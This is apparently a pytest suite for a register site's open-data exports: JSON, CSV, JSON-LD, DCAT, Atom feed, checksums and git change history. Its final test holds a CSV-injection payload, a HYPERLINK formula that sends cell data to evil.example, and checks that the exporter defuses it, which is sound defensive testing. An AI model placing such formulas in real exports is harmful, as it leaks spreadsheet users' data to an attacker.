"""Open data on every build: JSON, CSV, per-record files, schema, JSON-LD, DCAT, Atom feed and checksums,
from a real site built from a register with a real (scripted) git history."""
from __future__ import annotations

import csv
import hashlib
import io
import json
import shutil
import subprocess
from pathlib import Path

import feedparser
import pytest
import rdflib
from jsonschema import Draft202012Validator

from generator.core.schema import load_schemas

from conftest import FIXTURES, explain, skip_without
from sites import html, make_project, mkdocs_build
from test_history import commit, git

pytestmark = pytest.mark.site
SITE_URL = "https://register.example/"


@pytest.fixture(scope="module")
def project(tmp_path_factory) -> Path:
    """A register in a git repository with five commits (add, edit, retire, add, delete), built into site/."""
    project = make_project(tmp_path_factory.mktemp("opendata") / "project", FIXTURES / "valid")
    registry = project / "registry"
    keep = {"register.yaml", "minimal.yaml", "high-risk-system.yaml"}
    held_back = {}
    for path in sorted(registry.glob("*.yaml")):
        if path.name not in keep:
            held_back[path.name] = path.read_text()
            path.unlink()
    git(project, "init", "-q", "-b", "main")
    commit(project, "Start the register", "2025-01-10T10:00:00+00:00")
    text = (registry / "minimal.yaml").read_text()
    (registry / "minimal.yaml").write_text(text.replace("status: planned", "status: pilot")
                                           + "record:\n  change_note: The pilot started in March.\n")
    commit(project, "Minimal goes to pilot", "2025-03-01T09:00:00+00:00")
    for name in ("retired-system.yaml", "withheld-fields.yaml"):
        (registry / name).write_text(held_back[name])
    commit(project, "Add two systems", "2025-04-01T09:00:00+00:00")
    (registry / "withheld-fields.yaml").unlink()
    commit(project, "Remove a test entry", "2025-05-01T09:00:00+00:00")
    result = mkdocs_build(project, project / "site", "--config-file", "mkdocs.yml")
    assert result.returncode == 0, explain(result)
    return project


def test_registry_json_holds_every_record_valid_against_the_schema(project):
    data = json.loads((project / "site" / "data" / "registry.json").read_text())
    schemas = load_schemas()
    assert data["schema_version"] == "1.0" and data["schema"] == schemas.record["$id"]
    assert data["count"] == 3 == len(data["systems"])
    head = (project / ".git").exists()
    assert head and len(data["source_commit"]) == 40
    for record in data["systems"]:
        assert list(schemas.record_validator.iter_errors(record)) == []
    assert data["register"]["organisation"]["name"]["en"] == "Fixture City"


def test_every_record_has_its_own_json_file(project):
    for record_id in ("minimal", "high-risk-system", "retired-system"):
        item = json.loads((project / "site" / "data" / "systems" / f"{record_id}.json").read_text())
        assert item["record"]["id"] == record_id and item["file"].endswith(f"{record_id}.yaml")
        assert isinstance(item["history"], list) and item["history"]
    assert not (project / "site" / "data" / "systems" / "withheld-fields.json").exists()


def test_the_csv_round_trips_with_the_standard_library(project):
    raw = (project / "site" / "data" / "registry.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "a byte-order mark, so Excel reads the file as UTF-8"
    text = raw.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["id"] for r in rows] == ["high-risk-system", "minimal", "retired-system"]
    minimal = next(r for r in rows if r["id"] == "minimal")
    assert minimal["status"] == "pilot" and minimal["department_id"] == "testing" and minimal["name"] == "Minimal system"
    # write the rows back and read them again: nothing changes
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    assert out.getvalue() == text


def test_the_schema_is_published_at_its_id(project):
    schemas = load_schemas()
    for schema in (schemas.record, schemas.register):
        path = schema["$id"].split("://", 1)[1].split("/", 1)[1]
        published = json.loads((project / "site" / path).read_text())
        assert published == schema
        Draft202012Validator.check_schema(published)


def test_every_system_page_embeds_schema_org_json_ld(project):
    for record_id in ("minimal", "high-risk-system", "retired-system"):
        soup = html(project / "site" / "systems" / record_id / "index.html")
        block = soup.find("script", type="application/ld+json")
        graph = rdflib.Graph().parse(data=block.string, format="json-ld", base=SITE_URL)
        sdo = rdflib.Namespace("https://schema.org/")
        names = [str(o) for o in graph.objects(None, sdo.name)]
        assert soup.find("h1").get_text() in names
        assert (None, rdflib.RDF.type, sdo.SoftwareApplication) in graph


def test_the_dcat_catalogue_parses_and_lists_the_distributions(project):
    text = (project / "site" / "data" / "catalog.jsonld").read_text()
    graph = rdflib.Graph().parse(data=text, format="json-ld", base=SITE_URL)
    dcat = rdflib.Namespace("http://www.w3.org/ns/dcat#")
    dct = rdflib.Namespace("http://purl.org/dc/terms/")
    catalogues = list(graph.subjects(rdflib.RDF.type, dcat.Catalog))
    datasets = list(graph.subjects(rdflib.RDF.type, dcat.Dataset))
    assert len(catalogues) == 1 and len(datasets) == 1
    downloads = {str(o).split("/", 3)[-1] for o in graph.objects(None, dcat.downloadURL)}
    assert {"data/registry.json", "data/registry.csv", "data/feed.xml", "data/history.json"} <= downloads
    for download in downloads:
        assert (project / "site" / download).is_file(), download
    assert graph.value(datasets[0], dct.license) is None or "spdx" in str(graph.value(datasets[0], dct.license))


def test_the_atom_feed_has_one_entry_per_change(project):
    feed = feedparser.parse((project / "site" / "data" / "feed.xml").read_bytes())
    assert not feed.bozo, feed.bozo_exception
    history = json.loads((project / "site" / "data" / "history.json").read_text())
    assert len(feed.entries) == len(history["changes"]) == 6
    titles = [e.title for e in feed.entries]
    assert titles[0] == "Removed: System with withheld details"
    assert "Changed: Minimal system" in titles and titles.count("Added: Minimal system") == 1
    changed = next(e for e in feed.entries if e.title == "Changed: Minimal system")
    assert changed.summary == "The pilot started in March."
    content = changed.content[0].value
    assert content.startswith("The pilot started in March.\n"), "the change note, then the fields in words"
    assert "Status (status): Planned → Pilot" in content.splitlines()
    assert changed.link == SITE_URL + "systems/minimal/"
    ids = [e.id for e in feed.entries]
    assert len(set(ids)) == len(ids) and all(i.startswith("urn:uuid:") for i in ids)
    assert not any(SITE_URL in i or "minimal" in i for i in ids), "ids depend on neither the address nor the file name"
    removed = feed.entries[0]
    assert removed.link == SITE_URL + "changes/" and "removed from the register" in removed.content[0].value


def test_checksums_cover_and_match_every_export(project):
    site = project / "site"
    data = site / "data"
    lines = (data / "SHA256SUMS").read_text().splitlines()
    listed = {}
    for line in lines:
        digest, path = line.split("  ", 1)
        listed[path] = digest
        assert not path.startswith(("/", "data/")), "paths relative to the data folder the file is in"
        assert hashlib.sha256((data / path).read_bytes()).hexdigest() == digest, path
    published = {p.relative_to(data).as_posix() for p in data.rglob("*") if p.is_file()
                 if p.name not in ("SHA256SUMS", "index.html")}
    published |= {"../" + p.relative_to(site).as_posix() for p in (site / "schema").rglob("*.json")}
    assert published == set(listed)
    assert any(path.startswith("exports/nl-1.0/") for path in listed)


def test_sha256sum_checks_the_download_inside_the_data_folder(project):
    """What a reader does after downloading: `cd data && sha256sum -c SHA256SUMS`, every line OK."""
    tool = shutil.which("sha256sum")
    if tool is None:
        skip_without("sha256sum", "GNU coreutils checks the download")
    result = subprocess.run([tool, "-c", "SHA256SUMS"], cwd=project / "site" / "data", capture_output=True, text=True)
    assert result.returncode == 0, result.stdout + result.stderr
    lines = result.stdout.splitlines()
    assert lines and all(line.endswith(": OK") for line in lines)
    assert any(line.startswith("registry.csv:") for line in lines)


def test_history_shows_on_the_system_page_and_the_recent_changes_page(project):
    from sites import article

    page = article(project / "site" / "systems" / "minimal" / "index.html")
    items = page.select(".air-history li")
    assert len(items) == 2
    assert "The pilot started in March." in items[0].get_text()
    rows = {r.find("th").get_text(): [td.get_text() for td in r.find_all("td")] for r in items[0].select("tbody tr")}
    # the field's title and the choices' labels, as a resident reads them, not the field path and codes
    assert rows["Status"] == ["Planned", "Pilot"]
    assert "Status changed from Planned to Pilot." in items[0].get_text(" ")
    changes = article(project / "site" / "changes" / "index.html")
    assert len(changes.select("li[id^=change-]")) == 6


def test_a_copy_without_git_history_still_builds_and_says_so(tmp_path):
    project = make_project(tmp_path / "project", FIXTURES / "valid")
    result = mkdocs_build(project, project / "site")
    assert result.returncode == 0, explain(result)
    from sites import article

    page = article(project / "site" / "systems" / "minimal" / "index.html")
    assert "The change history is not available for this copy of the register" in page.get_text()
    assert not (project / "site" / "data" / "history.json").exists()
    feed = feedparser.parse((project / "site" / "data" / "feed.xml").read_bytes())
    assert not feed.bozo and len(feed.entries) == 0


def test_a_formula_in_a_record_reaches_the_csv_as_text_and_the_json_unchanged(tmp_path):
    """CSV injection: a summary that starts with '=' must not run as a formula when registry.csv is opened."""
    from generator.publish.opendata import OpenDataOptions, registry_csv, registry_json
    from generator.model.registry import load_registry

    registry_dir = tmp_path / "registry"
    shutil.copytree(FIXTURES / "valid", registry_dir)
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    path = registry_dir / "minimal.yaml"
    path.write_text(path.read_text().replace("summary: A record with only the required fields filled in.",
                                             f"summary: '{formula}'"))
    result = load_registry(registry_dir)
    assert result.registry is not None, result.problems
    options = OpenDataOptions()
    rows = list(csv.DictReader(io.StringIO(registry_csv(result.registry, options).removeprefix("\ufeff"))))
    minimal = next(r for r in rows if r["id"] == "minimal")
    assert minimal["summary"] == "'" + formula
    assert all(not value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())
    exact = next(s for s in registry_json(result.registry, load_schemas(), options)["systems"] if s["id"] == "minimal")
    assert exact["summary"] == formula
